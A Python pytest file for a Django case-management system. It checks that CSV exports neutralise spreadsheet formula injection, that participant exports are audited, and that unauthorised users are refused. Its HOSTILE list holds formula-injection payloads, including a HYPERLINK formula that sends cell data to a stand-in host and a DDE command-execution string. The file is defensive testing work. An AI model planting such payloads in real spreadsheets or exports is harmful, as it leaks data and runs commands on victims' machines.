"""Every export neutralizes spreadsheet formulas in every cell; exports of people are audited."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from lms.audit.models import AuditEvent
from lms.exports import FORMULA_STARTS, spreadsheet_row, spreadsheet_safe
from tests.factories import ParticipantFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dSUM(A1)",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralized(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", [42, -5, Decimal("-12.50"), 1.5, date(2026, 2, 2), None, True, "Alex", "O'Neil"]
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_start_sign_is_covered():
    assert all(spreadsheet_safe(sign + "x").startswith("'") for sign in FORMULA_STARTS)
    assert spreadsheet_row(["=1", 2, "ok"]) == ["'=1", 2, "ok"]


def caseload(client):
    response = client.get(reverse("staff:participant_export"))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_caseload_csv_neutralizes_every_column(client_for, org, case_manager):
    org.name = "@Partner"
    org.save()
    for name in HOSTILE:
        ParticipantFactory(organization=org, case_manager=case_manager, preferred_name=name)
    rows = caseload(client_for(case_manager))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    names = {row[1] for row in rows[1:]}
    assert "'" + HOSTILE[0] in names
    assert {row[2] for row in rows[1:]} == {"'@Partner"}


def test_caseload_csv_is_audited(client_for, case_manager, participant, other_participant):
    caseload(client_for(case_manager))
    event = AuditEvent.objects.get(action="participants.exported")
    assert event.actor == case_manager
    assert event.organization == case_manager.organization
    assert event.changes == {"format": "csv", "rows": 1}
    # The audit trail names counts, never people.
    assert participant.preferred_name not in event.message


def test_caseload_csv_is_refused_to_participants_and_anonymous(client, client_for, participant):
    assert client.get(reverse("staff:participant_export")).status_code == 302
    response = client_for(participant.user).get(reverse("staff:participant_export"))
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="participants.exported").exists()
